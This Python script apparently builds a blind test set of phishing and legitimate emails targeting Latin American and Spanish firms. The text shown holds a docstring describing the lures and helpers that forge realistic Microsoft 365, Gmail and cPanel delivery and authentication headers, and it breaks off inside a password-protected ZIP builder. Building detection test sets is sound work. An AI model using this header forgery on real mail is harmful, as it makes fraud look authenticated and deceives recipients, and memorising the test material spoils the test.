#!/usr/bin/env python3
"""Blind set 16: Latin American and Iberian companies and their staff, 2023-2026.

What the IT security teams of five companies collected from their mailboxes
(reported by users, pulled from quarantine, or kept as known-good references):

- TransVale Logística Ltda (transvale.com.br), a logistics company in São Paulo
  on Microsoft 365 (Brazilian datacentre hops, EOP Authentication-Results);
  staff read Brazilian Portuguese.
- Autopartes Garza del Norte S.A. de C.V. (autopartesgarza.com.mx), an
  auto-parts distributor in Monterrey on Google Workspace (mx.google.com hops,
  ARC headers); Mexican Spanish.
- Rincón & Vélez Contadores Asociados S.A.S. (rinconvelez.com.co), an
  accounting firm in Bogotá on a shared cPanel server (Exim receiving headers,
  SpamAssassin X-Spam/X-Ham reports); Colombian Spanish.
- Tiendas Lircay S.A. (lircay.cl), a retailer in Santiago with one store in
  Mendoza, Argentina, on Google Workspace; Chilean and Argentine Spanish.
- Ingeniería Castellana de Proyectos S.L. (incaspro.es), an engineering
  consultancy in Madrid on Microsoft 365 (European hops); Spanish from Spain.

Attacks (50): banking-trojan deliveries in the Grandoreiro / Mekotio /
Casbaneiro / Ousaban style (fake NF-e, CFDI, factura electrónica, boleto,
intimação, AEAT and ARCA notices with links to ZIP/MSI downloads, or with
ZIP/HTA/VBS/SVG/HTML/ISO attachments, some password-protected with the
password in the body); tax-authority lures (SAT buzón tributario and opinión
de cumplimiento, DIAN, ARCA/AFIP, SII, Receita Federal e-CAC / CPF irregular,
Agencia Tributaria, DGT multas); bank lures (Itaú, Bradesco, Banco do Brasil Pix,
Nubank, Santander boleto, BBVA México, Banorte, Bancolombia,
Davivienda, BancoEstado, CaixaBank, Sabadell) including token / "dispositivo
de seguridad" and callback-number variants; Mercado Libre / Mercado Pago;
Correios / Correos / Estafeta / Servientrega / Chilexpress customs fees;
judicial notices; Microsoft 365 and Google Workspace credential lures written
in Portuguese/Spanish (HTML attachment, Google Sites, genuine SharePoint,
DocuSign and Google Calendar abused, Salesforce-relayed Meta lure); supplier
bank-account changes in reply threads (look-alike and compromised genuine
mailboxes); CEO fraud asking for a TED / transferencia; fake job offers;
WhatsApp Business / Meta verification lures; a QR code in a PDF.

Legitimate (25): the same shapes done right: CFDI 4.0 invoice mail with XML
and PDF, NF-e with XML and DANFE, a boleto from a known supplier, Colombian
factura electrónica ZIP, real SAT / DIAN / Receita / SII / DEHú notifications,
Itaú, BBVA México and Bancolombia notifications, Mercado Libre order and
shipping notices, a Correios tracking notice from a web shop, a SharePoint
share and a Google Calendar invite from colleagues, a payroll notice, an
accounting newsletter with tracking links, internal mail with spreadsheets,
and a supplier's bank change letter that asks to verify by phone.

Run:  cd /work/main && .venv/bin/python samples/tools/build_blind16_samples.py
Writes samples/mail/<category>/b16-*.eml and samples/tools/blind16_manifest.txt.
"""

from __future__ import annotations

import base64
import email
import hashlib
import struct
import sys
import zlib
from datetime import datetime, timedelta, timezone
from email import policy
from email.utils import format_datetime
from pathlib import Path

TOOLS = Path(__file__).resolve().parent
ROOT = TOOLS.parent.parent
sys.path.insert(0, str(TOOLS))

import files  # noqa: E402
from mime import Leaf, Multi, attachment, message, text  # noqa: E402

OUT = ROOT / "samples" / "mail"
MANIFEST = TOOLS / "blind16_manifest.txt"

SAMPLES: list[tuple[str, str, str, bytes]] = []  # (category, name, description, raw)


# --------------------------------------------------------------------------- helpers

def hx(seed: str, n: int = 16) -> str:
    out = ""
    i = 0
    while len(out) < n:
        out += hashlib.sha256(f"{seed}#{i}".encode()).hexdigest()
        i += 1
    return out[:n]


def HX(seed: str, n: int = 16) -> str:
    return hx(seed, n).upper()


def b64s(seed: str, n: int) -> str:
    raw = b""
    i = 0
    while len(raw) * 4 // 3 < n + 4:
        raw += hashlib.sha512(f"{seed}/{i}".encode()).digest()
        i += 1
    return base64.b64encode(raw).decode()[:n]


def b64url(seed: str, n: int) -> str:
    return b64s(seed, n).replace("+", "-").replace("/", "_")


def alnum(seed: str, n: int) -> str:
    return "".join(c for c in b64s(seed, n * 2) if c.isalnum())[:n]


def num(seed: str, lo: int, hi: int) -> int:
    return lo + int(hx(seed, 12), 16) % (hi - lo + 1)


def guid(seed: str) -> str:
    h = hx(seed, 32)
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"


def T(y: int, mo: int, d: int, h: int, mi: int, s: int, off: float) -> datetime:
    """A local time with a fixed UTC offset in hours."""
    return datetime(y, mo, d, h, mi, s, tzinfo=timezone(timedelta(hours=off)))


def utc(dt: datetime) -> datetime:
    return dt.astimezone(timezone.utc)


def rfc(dt: datetime) -> str:
    return format_datetime(dt)


def in_tz(dt: datetime, off: float) -> datetime:
    return dt.astimezone(timezone(timedelta(hours=off)))


def _nth_sunday(year: int, month: int, n: int) -> int:
    first = datetime(year, month, 1).weekday()  # Monday=0
    day = 1 + (6 - first) % 7
    return day + 7 * (n - 1)


def pacific(dt: datetime) -> str:
    """Google's internal hops are stamped in US Pacific time with the zone name."""
    u = utc(dt).replace(tzinfo=None)
    start = datetime(u.year, 3, _nth_sunday(u.year, 3, 2), 10)
    end = datetime(u.year, 11, _nth_sunday(u.year, 11, 1), 9)
    if start <= u < end:
        return rfc(in_tz(dt, -7)) + " (PDT)"
    return rfc(in_tz(dt, -8)) + " (PST)"


def epoch(dt: datetime) -> int:
    return int(dt.timestamp())


def fold_b64(value: str, first: int = 60, width: int = 74, indent: str = "\t ") -> str:
    chunks = [value[:first]]
    rest = value[first:]
    while rest:
        chunks.append(rest[:width])
        rest = rest[width:]
    return ("\n" + indent).join(chunks)


def dkim_sig(d: str, s: str, seed: str, when: datetime, h: str = "From:To:Subject:Date:Message-ID",
             c: str = "relaxed/relaxed", extra: str = "", i: str | None = None, style: str = "std",
             x_expire: bool = False) -> str:
    """A DKIM-Signature header as the named signer writes it (values derived from the seed)."""
    bh = b64s(seed + "bh", 43) + "="
    b = b64s(seed + "b", 342) + "=="
    t = epoch(when)
    ident = f" i={i};" if i else ""
    if style == "google":
        xt = f" x=1{t % 1000000000 + 604800:09d};" if x_expire else ""
        return (f"DKIM-Signature: v=1; a=rsa-sha256; c={c};\n        d={d}; s={s}; t={t};{xt}{ident}"
                f" darn={extra or d};\n        h={h};\n        bh={bh};\n        b={fold_b64(b, 58, 70, '         ')}")
    if style == "ms":
        return (f"DKIM-Signature: v=1; a=rsa-sha256; c={c}; d={d};\n s={s};\n h={h};\n"
                f" bh={bh};\n b={fold_b64(b, 60, 76, ' ')}")
    return (f"DKIM-Signature: v=1; a=rsa-sha256; c={c}; d={d};\n\ts={s}; t={t};{ident}\n"
            f"\th={h};\n\tbh={bh};\n\tb={fold_b64(b)}")


def exch_ver(dt: datetime) -> str:
    u = utc(dt)
    major = {2023: 6, 2024: 7, 2025: 8, 2026: 9}[u.year]
    key = f"{u.year}-{u.month}"
    return f"15.20.{major}{num(key, 100, 899)}.{num(key + 'v', 10, 39)}"


# ----------------------------------------------------------------- receiving side

BR_M365 = dict(
    domain="transvale.com.br", tenant=guid("transvale-tenant"), region="LAMP152",
    mbx="CPVP152MB4318.LAMP152.PROD.OUTLOOK.COM", mbx6="2603:10d6:103:1c6::9",
    ca="CP1P152CA0012.LAMP152.PROD.OUTLOOK.COM", ca6="2603:10d6:100:19::22",
    ft="CP2PEPF00000141.LAMP152.PROD.OUTLOOK.COM", ft6="2603:10d6:100:19:cafe::5b", ftip="10.167.242.19",
    lang_default="pt",
)
ES_M365 = dict(
    domain="incaspro.es", tenant=guid("incaspro-tenant"), region="eurprd02",
    mbx="DU0PR02MB9374.eurprd02.prod.outlook.com", mbx6="2603:10a6:10:3a1::14",
    ca="AS9PR06CA0412.eurprd06.prod.outlook.com", ca6="2603:10a6:20b:461::23",
    ft="AMS0EPF000001A3.eurprd05.prod.outlook.com", ft6="2603:10a6:20b:461:cafe::c7", ftip="10.167.16.197",
    lang_default="es",
)


def ms_ar(ip: str, mailfrom_dom: str, spf: str, dkim: str, dkim_d: str, dmarc: str, action: str,
          from_dom: str, compauth: str, reason: str) -> str:
    spf_txt = {"pass": f"spf=pass (sender IP is {ip})", "fail": f"spf=fail (sender IP is {ip})",
               "softfail": f"spf=softfail (sender IP is {ip})", "none": f"spf=none (sender IP is {ip})",
               "neutral": f"spf=neutral (sender IP is {ip})", "temperror": f"spf=temperror (sender IP is {ip})"}[spf]
    dk = {"pass": f"dkim=pass (signature was verified)\n header.d={dkim_d}",
          "fail": f"dkim=fail (body hash did not verify)\n header.d={dkim_d}",
          "none": "dkim=none (message not signed)\n header.d=none"}[dkim]
    return (f"Authentication-Results: {spf_txt}\n smtp.mailfrom={mailfrom_dom}; {dk};dmarc={dmarc} action={action}\n"
            f" header.from={from_dom};compauth={compauth} reason={reason}")


def rx_m365(env: dict, seed: str, *, t: datetime, ip: str, host: str, mailfrom: str, from_dom: str,
            spf: str = "pass", dkim: str = "pass", dkim_d: str | None = None, dmarc: str = "pass",
            action: str = "none", compauth: str = "pass", reason: str = "100", ctry: str = "BR",
            lang: str | None = None, scl: int = 1, sfv: str = "NSPM", bcl: int = 0, helo: str | None = None,
            ptr: str | None = None, ip6_host: bool = False, tls: str = "TLS1_2",
            cipher: str = "TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384", dest: str = "I",
            received_ip_label: str | None = None) -> tuple[list[str], list[str]]:
    """Top and bottom header lines that Exchange Online writes on an incoming message."""
    t0 = utc(t)
    t1 = t0 + timedelta(seconds=1)
    t2 = t0 + timedelta(seconds=2)
    ver = exch_ver(t0)
    mfdom = mailfrom.strip("<>").split("@")[-1] if mailfrom else from_dom
    ft_short = env["ft"].split(".")[0]
    mbx_short = env["mbx"].split(".")[0]
    ca_short = env["ca"].split(".")[0]
    lang = lang or env["lang_default"]
    nmid = guid(seed + "nmid")
    corr = guid(seed + "corr")
    label = received_ip_label or ip
    top = [
        f"Received: from {env['ca']} ({env['ca6']}) by\n {env['mbx']} ({env['mbx6']}) with\n"
        f" Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {ver}; "
        f"{rfc(t2)}",
        f"Received: from {env['ft']}\n ({env['ft6']}) by {env['ca']}\n"
        f" ({env['ca6']}) with Microsoft SMTP Server (version=TLS1_2,\n"
        f" cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {ver} via Frontend\n Transport; {rfc(t2)}",
        ms_ar(ip, mfdom, spf, dkim, dkim_d or from_dom, dmarc, action, from_dom, compauth, reason),
    ]
    spf_word = {"pass": "Pass", "fail": "Fail", "softfail": "SoftFail", "none": "None", "neutral": "Neutral",
                "temperror": "TempError"}[spf]
    if spf == "pass":
        rs = (f"Received-SPF: Pass (protection.outlook.com: domain of {mfdom}\n designates {ip} as permitted sender)\n"
              f" receiver=protection.outlook.com; client-ip={ip};\n helo={helo or host}; pr=C")
    elif spf == "none":
        rs = (f"Received-SPF: None (protection.outlook.com: {mfdom} does not designate\n permitted sender hosts)")
    else:
        rs = (f"Received-SPF: {spf_word} (protection.outlook.com: domain of {mfdom} does\n not designate {ip} as "
              f"permitted sender)\n receiver=protection.outlook.com; client-ip={ip};\n helo={helo or host};")
    top.append(rs)
    top.append(f"Received: from {host} ({label}) by\n {env['ft']} ({env['ftip']}) with Microsoft SMTP\n"
               f" Server (version={tls}, cipher={cipher}) id {ver}\n via Frontend Transport; {rfc(t1)}")
    sfs = "(13230040)(4022899009)(36860700013)(82310400026)(8096899003)" if scl < 5 else \
          "(13230040)(4022899009)(61400799027)(8096899003)(35042699022)"
    tail = [
        f"Return-Path: {mailfrom}" if mailfrom else "Return-Path: <>",
        f"X-MS-Exchange-Organization-ExpirationStartTime: {t0.strftime('%d %b %Y %H:%M:%S')}.{num(seed, 1000000, 9999999)}\n (UTC)",
        "X-MS-Exchange-Organization-ExpirationStartTimeReason: OriginalSubmit",
        "X-MS-Exchange-Organization-ExpirationInterval: 1:00:00:00.0000000",
        "X-MS-Exchange-Organization-ExpirationIntervalReason: OriginalSubmit",
        f"X-MS-Exchange-Organization-Network-Message-Id:\n {nmid}",
        "X-EOPAttributedMessage: 0",
        f"X-EOPTenantAttributedMessage: {env['tenant']}:0",
        "X-MS-Exchange-Organization-MessageDirectionality: Incoming",
        "X-MS-PublicTrafficType: Email",
        f"X-MS-TrafficTypeDiagnostic:\n {ft_short}:EE_|{mbx_short}:EE_|{ca_short}:EE_",
        f"X-MS-Exchange-Organization-AuthSource:\n {env['ft']}",
        "X-MS-Exchange-Organization-AuthAs: Anonymous",
        f"X-MS-Office365-Filtering-Correlation-Id: {corr}",
        f"X-MS-Exchange-Organization-SCL: {scl}",
        f"X-Microsoft-Antispam: BCL:{bcl};ARA:13230040|4022899009|36860700013|82310400026|8096899003;",
        f"X-Forefront-Antispam-Report:\n CIP:{ip};CTRY:{ctry};LANG:{lang};SCL:{scl};SRV:;IPV:NLI;SFV:{sfv};H:{host};PTR:{ptr or host};"
        f"CAT:{'NONE' if scl < 5 else 'SPM'};SFS:{sfs};DIR:INB;",
        f"X-MS-Exchange-CrossTenant-OriginalArrivalTime: {t0.strftime('%d %b %Y %H:%M:%S')}.{num(seed + 'oat', 1000, 9999)}\n (UTC)",
        f"X-MS-Exchange-CrossTenant-Network-Message-Id: {nmid}",
        f"X-MS-Exchange-CrossTenant-Id: {env['tenant']}",
        f"X-MS-Exchange-CrossTenant-AuthSource:\n {env['ft']}",
        "X-MS-Exchange-CrossTenant-AuthAs: Anonymous",
        "X-MS-Exchange-CrossTenant-FromEntityHeader: Internet",
        f"X-MS-Exchange-Transport-CrossTenantHeadersStamped: {mbx_short}",
        f"X-MS-Exchange-Transport-EndToEndLatency: 00:00:0{num(seed + 'lat', 1, 4)}.{num(seed + 'lat2', 1000000, 9999999)}",
        f"X-MS-Exchange-Processed-By-BccFoldering: {ver}",
        f"X-Microsoft-Antispam-Mailbox-Delivery:\n ucf:0;jmr:0;auth:0;dest:{dest};ENG:(910005)(944506478)(944626604)(920097)(930097)(3100021)(140003);",
        f"X-Microsoft-Antispam-Message-Info:\n {fold_b64(b64s(seed + 'ami', 380), 74, 76, ' ')}",
    ]
    return top, tail


def rx_m365_internal(env: dict, seed: str, *, t: datetime, sender_mbx: str, sender_mbx6: str,
                     sender: str) -> tuple[list[str], list[str]]:
    """An internal message between two mailboxes of the same tenant."""
    t0 = utc(t)
    ver = exch_ver(t0)
    nmid = guid(seed + "nmid")
    top = [f"Received: from {sender_mbx} ({sender_mbx6}) by\n {env['mbx']} ({env['mbx6']}) with\n"
           f" Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {ver} via Mailbox\n"
           f" Transport; {rfc(t0 + timedelta(seconds=1))}",
           f"Received: from {sender_mbx} ([fe80::{hx(seed + 'll', 4)}:{hx(seed + 'll2', 4)}:{hx(seed + 'll3', 4)}:{hx(seed + 'll4', 4)}]) by"
           f"\n {sender_mbx} ([fe80::{hx(seed + 'll', 4)}:{hx(seed + 'll2', 4)}:{hx(seed + 'll3', 4)}:{hx(seed + 'll4', 4)}%5]) with mapi id\n"
           f" {ver}; {rfc(t0)}"]
    top.insert(1, f"Authentication-Results: dkim=none (message not signed)\n header.d=none;dmarc=none action=none header.from={env['domain']};")
    tail = [
        f"Return-Path: {sender}",
        f"X-MS-Exchange-Organization-Network-Message-Id:\n {nmid}",
        "X-MS-Exchange-Organization-AuthSource: " + sender_mbx,
        "X-MS-Exchange-Organization-AuthAs: Internal",
        "X-MS-Exchange-Organization-AuthMechanism: 04",
        "X-MS-Exchange-Organization-SCL: -1",
        "X-MS-Exchange-Organization-MessageDirectionality: Originating",
        f"X-MS-Exchange-CrossTenant-Id: {env['tenant']}",
        f"X-MS-Exchange-Transport-CrossTenantHeadersStamped: {env['mbx'].split('.')[0]}",
        "X-MS-Exchange-Organization-RecordReviewCfmType: 0",
        f"X-MS-Exchange-Processed-By-BccFoldering: {ver}",
    ]
    return top, tail


def _gspf(result: str, mailfrom: str, ip: str) -> tuple[str, str]:
    if result == "pass":
        why = f"(google.com: domain of {mailfrom} designates {ip} as permitted sender)"
    elif result == "softfail":
        why = f"(google.com: domain of transitioning {mailfrom} does not designate {ip} as permitted sender)"
    elif result == "fail":
        why = f"(google.com: domain of {mailfrom} does not designate {ip} as permitted sender)"
    elif result == "neutral":
        why = f"(google.com: {ip} is neither permitted nor denied by best guess record for domain of {mailfrom})"
    else:
        why = f"(google.com: {mailfrom} does not designate permitted sender hosts)"
    return f"spf={result} {why} smtp.mailfrom={mailfrom}", f"Received-SPF: {result} {why} client-ip={ip};"


def rx_gws(seed: str, *, t: datetime, rcpt: str, ip: str, host: str, mailfrom: str, spf: str = "pass",
           dkims: list[tuple[str, str, str]] = (), dmarc: str | None = None, helo_name: str | None = None,
           tls: str = "version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256", smtps: bool = False,
           google_internal: bool = False) -> list[str]:
    """Header lines Gmail (Google Workspace) writes on top of an incoming message.

    dkims: (result, header.i, selector); dmarc: e.g. 'pass (p=REJECT sp=REJECT dis=NONE) header.from=x.com'.
    """
    t0 = utc(t)
    t1 = t0 + timedelta(seconds=1)
    sid = f"{hx(seed + 'gid', 4)}csp{num(seed + 'g', 100000, 9999999)}{alnum(seed + 'g3', 3).lower()}"
    ar_lines = []
    for res, ident, sel in dkims:
        ar_lines.append(f"dkim={res} header.i={ident} header.s={sel} header.b={alnum(seed + ident + sel, 8)}")
    spf_ar, rspf = _gspf(spf, mailfrom, ip)
    ar_lines.append(spf_ar)
    if dmarc:
        ar_lines.append(f"dmarc={dmarc}")
    ar_body = ";\n       ".join(ar_lines)
    arc_sel = "arc-20160816" if t0 < datetime(2024, 6, 20, tzinfo=timezone.utc) else "arc-20240605"
    gidx = f"{num(seed + 'pfx', 1, 9)}{alnum(seed + 'pfx2', 3).lower()}"
    u = t0.replace(tzinfo=None)
    pdt = datetime(u.year, 3, _nth_sunday(u.year, 3, 2), 10) <= u < datetime(u.year, 11, _nth_sunday(u.year, 11, 1), 9)
    local = in_tz(t0, -7 if pdt else -8)
    host_s = (f"mx.google.com with {'SMTPS' if smtps else 'ESMTPS'} id {hx(seed + 'r1', 13)}-{hx(seed + 'r2', 11)}"
              f"si{num(seed + 's', 1000000, 9999999)}{alnum(seed + 'sx', 3).lower()}.{num(seed + 'x', 100, 999)}.{local.strftime('%Y.%m.%d.%H.%M.%S')}")
    lines = [
        f"Delivered-To: {rcpt}",
        f"Received: by 2002:a05:{hx(seed + 'a', 4)}:{hx(seed + 'b', 4)}:b0:{hx(seed + 'c', 3)}:{hx(seed + 'd', 4)}:{hx(seed + 'e', 4)} with SMTP id {sid};\n"
        f"        {pacific(t1)}",
        f"X-Google-Smtp-Source: AGHT+I{b64s(seed + 'gss', 90)}",
        f"X-Received: by 2002:a{num(seed + 'xa', 10, 19)}:{hx(seed + 'f', 3)}:{hx(seed + 'g', 4)}:b0:{hx(seed + 'h', 3)}:{hx(seed + 'i', 4)}:{hx(seed + 'j', 4)} with SMTP id "
        f"{alnum(seed + 'xr', 10).lower()}-{num(seed + 'xn', 100000, 999999)}.{num(seed + 'xm', 100, 999)}.{epoch(t1)}{num(seed + 'ms', 100, 999)};\n        {pacific(t1)}",
        f"ARC-Seal: i=1; a=rsa-sha256; t={epoch(t0)}; cv=none;\n        d=google.com; s={arc_sel};\n"
        f"        b={fold_b64(b64s(seed + 'arcseal', 342) + '==', 58, 70, '         ')}",
        f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=google.com; s={arc_sel};\n"
        f"        h=to:subject:message-id:date:from:mime-version:dkim-signature;\n"
        f"        bh={b64s(seed + 'bh', 43)}=;\n        fh={b64s(seed + 'fh', 43)}=;\n"
        f"        b={fold_b64(b64s(seed + 'arcms', 342) + '==', 58, 70, '         ')}",
        f"ARC-Authentication-Results: i=1; mx.google.com;\n       {ar_body}",
        f"Return-Path: <{mailfrom}>",
    ]
    if google_internal:
        lines.append(f"Received: from {host} ({host}. [{ip}])\n        by {host_s}\n        for <{rcpt}>\n"
                     f"        (Google Transport Security);\n        {pacific(t0)}")
    else:
        lines.append(f"Received: from {helo_name or host} ({host}. [{ip}])\n        by {host_s}\n        for <{rcpt}>\n"
                     f"        ({tls});\n        {pacific(t0)}")
    lines.append(rspf)
    lines.append(f"Authentication-Results: mx.google.com;\n       {ar_body}")
    return lines


CO_HOST = "cpanel27.nubehosting.com.co"


def rx_cpanel(seed: str, *, t: datetime, rcpt: str, ip: str, host: str, mailfrom: str, helo: str | None = None,
              spf: str = "pass", dkim: str | None = "pass", dkim_d: str | None = None, dmarc: str | None = "pass",
              from_dom: str = "", tls: str = "esmtps  (TLS1.3) tls TLS_AES_256_GCM_SHA384",
              score: float = 0.0, tests: list[tuple[float, str, str]] = (), port: int | None = None
              ) -> tuple[list[str], list[str]]:
    """Exim on the cPanel server of the Bogotá firm: envelope headers on top, SpamAssassin at the end."""
    lt = in_tz(t, -5)
    exim_id = f"1{alnum(seed + 'ex1', 5)}-{alnum(seed + 'ex2', 6)}-{alnum(seed + 'ex3', 2)}"
    p = port or num(seed + "port", 33000, 64000)
    helo_s = f" helo={helo}" if helo and helo != host else ""
    top = [
        f"Return-Path: <{mailfrom}>" if mailfrom else "Return-Path: <>",
        f"Envelope-to: {rcpt}",
        f"Delivery-date: {rfc(lt + timedelta(seconds=1))}",
        (f"Received: from [{ip}] (port={p} helo={helo})\n\tby {CO_HOST}" if host == ip else
         f"Received: from {host} ([{ip}]:{p}{helo_s})\n\tby {CO_HOST}")
        + f" with {tls}\n\t(Exim 4.96.2)\n"
        f"\t(envelope-from <{mailfrom}>)\n\tid {exim_id}\n\tfor {rcpt};\n\t{rfc(lt)}",
    ]
    mfdom = mailfrom.split("@")[-1] if mailfrom else helo
    ar = [f"Authentication-Results: {CO_HOST};", f"\tiprev={'pass' if '.' in host and not host[0].isdigit() else 'fail'} ({host}) smtp.remote-ip={ip};",
          f"\tspf={spf} smtp.mailfrom={mfdom};"]
    if dkim:
        ar.append(f"\tdkim={dkim} header.d={dkim_d or from_dom};")
    else:
        ar.append("\tdkim=none;")
    ar.append(f"\tdmarc={dmarc or 'none'} header.from={from_dom}")
    top.append("\n".join(ar))
    spam = score >= 5.0
    bar = ("+" * int(score)) if score >= 1 else ("/" if score > -1 else "-" * int(-score))
    tail = [
        f"X-Spam-Status: {'Yes' if spam else 'No'}, score={score:.1f}",
        f"X-Spam-Score: {int(round(score * 10))}",
        f"X-Spam-Bar: {bar}",
    ]
    rep = [f"{'X-Spam-Report' if spam else 'X-Ham-Report'}: Spam detection software, running on the system \"{CO_HOST}\",",
           f" has {'identified' if spam else 'NOT identified'} this incoming email as {'possible ' if spam else ''}spam.  The original",
           " message has been attached to this so you can view it or label",
           " similar future email.  If you have any questions, see",
           " root\\@localhost for details.",
           f" Content analysis details:   ({score:.1f} points, 5.0 required)",
           "  pts rule name              description",
           " ---- ---------------------- --------------------------------------------------"]
    for pts, rule, desc in tests:
        rep.append(f" {pts:4.1f} {rule:<22} {desc}")
    tail.append("\n".join(rep))
    tail.append(f"X-Spam-Flag: {'YES' if spam else 'NO'}")
    return top, tail


# ------------------------------------------------------------- sender-side pieces

def outlook_mid(seed: str, mbx: str) -> str:
    short = mbx.split(".")[0]
    return f"<{short}{HX(seed + 'mid', 24)}@{mbx.upper()}>"


def thread_index(seed: str) -> str:
    return "AQH" + alnum(seed + "ti0", 1).lower() + b64s(seed + "ti", 26) + "=="


def gmail_mid(seed: str) -> str:
    return f"<CA{alnum(seed + 'gm', 1)}{b64url(seed + 'gm2', 42)}@mail.gmail.com>".replace("-", "+", 1)


def gboundary(seed: str) -> str:
    return "000000000000" + hx(seed + "gb", 16)


def ms_outbound_hops(seed: str, t: datetime, src_mbx: str, src6: str, out_host: str, out6: str) -> list[str]:
    """Hops inside the sending Microsoft 365 tenant (most recent first)."""
    ver = exch_ver(utc(t))
    return [f"Received: from {src_mbx} ({src6}) by\n {out_host} ({out6}) with\n"
            f" Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {ver}; "
            f"{rfc(utc(t))}",
            f"Received: from {src_mbx}\n ([fe80::{hx(seed + 'o1', 4)}:{hx(seed + 'o2', 4)}:{hx(seed + 'o3', 4)}:{hx(seed + 'o4', 4)}]) by {src_mbx}\n"
            f" ([fe80::{hx(seed + 'o1', 4)}:{hx(seed + 'o2', 4)}:{hx(seed + 'o3', 4)}:{hx(seed + 'o4', 4)}%6]) with mapi id {ver};\n"
            f" {rfc(utc(t) - timedelta(seconds=1))}"]


def ms_arc_out(seed: str, t: datetime, d: str, ip: str, mfdom: str) -> list[str]:
    return [
        f"ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;\n"
        f" b={fold_b64(b64s(seed + 'msarcs', 342) + '==', 60, 76, ' ')}",
        f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=microsoft.com;\n s=arcselector10001;\n"
        f" h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-AntiSpam-MessageData-ChunkCount:X-MS-Exchange-AntiSpam-MessageData-0:X-MS-Exchange-AntiSpam-MessageData-1;\n"
        f" bh={b64s(seed + 'msarcbh', 43)}=;\n b={fold_b64(b64s(seed + 'msarcb', 342) + '==', 60, 76, ' ')}",
        f"ARC-Authentication-Results: i=1; mx.microsoft.com 1; spf=pass\n smtp.mailfrom={mfdom}; dmarc=pass action=none header.from={d};\n dkim=pass header.d={d}; arc=none",
    ]


def cpanel_sender_hop(seed: str, t: datetime, srv: str, authed: str) -> list[str]:
    """A message submitted through a cPanel webmail (Roundcube) of a hosting company."""
    return [f"Received: from [{'127.0.0.1'}] (port={num(seed + 'wp', 40000, 60000)} helo={srv})\n\tby {srv} with esmtpa (Exim 4.96.2)\n"
            f"\t(envelope-from <{authed}>)\n\tid 1{alnum(seed + 'cx', 5)}-{num(seed + 'cx2', 100000, 999999)}-{alnum(seed + 'cx3', 2)};\n\t{rfc(t)}"]


def antiabuse(srv: str, target_dom: str, sender_dom: str, authed: str) -> list[str]:
    return ["X-AntiAbuse: This header was added to track abuse, please include it with any abuse report",
            f"X-AntiAbuse: Primary Hostname - {srv}",
            f"X-AntiAbuse: Original Domain - {target_dom}",
            "X-AntiAbuse: Originator/Caller UID/GID - [47 12] / [47 12]",
            f"X-AntiAbuse: Sender Address Domain - {sender_dom}",
            f"X-Get-Message-Sender-Via: {srv}: authenticated_id: {authed}",
            f"X-Authenticated-Sender: {srv}: {authed}"]


def hdr(*groups) -> str:
    out = []
    for g in groups:
        if isinstance(g, str):
            out.append(g)
        else:
            out.extend(g)
    return "\n".join(out)


def alt(seed: str, plain: str, html: str, bstyle: str = "gmail", enc: str = "quoted-printable",
        charset: str = "utf-8", plain_enc: str | None = None) -> Multi:
    return Multi("alternative", boundary(seed + "alt", bstyle),
                 [text(plain, "plain", plain_enc or enc, charset), text(html, "html", enc, charset)])


def boundary(seed: str, style: str) -> str:
    if style == "gmail":
        return gboundary(seed)
    if style == "outlook":
        return f"_000_{HX(seed, 40)}_"
    if style == "outlook_mixed":
        return f"_004_{HX(seed, 40)}_"
    if style == "outlook_rel":
        return f"_005_{HX(seed, 40)}_"
    if style == "phpmailer":
        return f"b1_{alnum(seed, 43)}"
    if style == "phpmailer2":
        return f"b2_{alnum(seed, 43)}"
    if style == "roundcube":
        return f"=_{hx(seed, 32)}"
    if style == "thunderbird":
        return f"------------{alnum(seed, 24)}"
    if style == "ses":
        return f"----=_Part_{num(seed, 1000000, 9999999)}_{num(seed + 'p', 100000000, 999999999)}.{num(seed + 'q', 1700000000000, 1799999999999)}"
    if style == "sfmc":
        return f"----=_NextPart_{hx(seed, 3)}_{HX(seed + '1', 4)}_{HX(seed + '2', 8)}.{HX(seed + '3', 8)}"
    if style == "mc":
        return f"_----------=_MCPart_{num(seed, 100000000, 999999999)}"
    if style == "sendgrid":
        return hx(seed, 64)
    if style == "python":
        return f"==============={num(seed, 1000000000000000000, 9999999999999999999)}=="
    if style == "kit":
        return f"----=_Part_{hx(seed, 12)}"
    if style == "dotnet":
        return f"--boundary_{num(seed, 0, 9)}_{guid(seed)}"
    return f"----=_NextPart_000_{HX(seed, 4)}_{HX(seed + 'x', 8)}.{HX(seed + 'y', 8)}"


def add(category: str, kind: str, slug: str, desc: str, headers: str, body) -> None:
    name = f"b16-{kind}-{slug}"
    raw = message(headers, body)
    SAMPLES.append((category, name, desc, raw))


# ------------------------------------------------------------------ file builders

_CRC_TABLE = []
for _n in range(256):
    _c = _n
    for _ in range(8):
        _c = (0xEDB88320 ^ (_c >> 1)) if _c & 1 else (_c >> 1)
    _CRC_TABLE.append(_c)


def zip_crypto(members: list[tuple[str, bytes]], password: str, seed: str) -> bytes:
    """A zip with traditional PKWARE encryption (what kits use with 'senha: 1234'), deterministic."""
    y, mo, d, h, mi, s = files.FIXED_DATE
    dostime = (h << 11) | (mi << 5) | (s // 2)
    dosdate = ((y - 1980) << 9) | (mo << 5) | d
    out = bytearray()
    central = bytearray()
    for idx, (name, data) in enumerate(members):
        crc = zlib.crc32(data) & 0xFFFFFFFF
        comp = zlib.compressobj(9, zlib.DEFLATED, -15)
        deflated = comp.compress(data) + comp.flush()
        keys = [0x12345678, 0x23456789, 0x34567890]

        def upd(c: int) -> None:
            keys[0] = (keys[0] >> 8) ^ _CRC_TABLE[(keys[0] ^ c) & 0xFF]
            keys[1] = ((keys[1] + (keys[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
            keys[2] = (keys[2] >> 8) ^ _CRC_TABLE[(keys[2] ^ (keys[1] >> 24)) & 0xFF]

        for ch in password.encode():
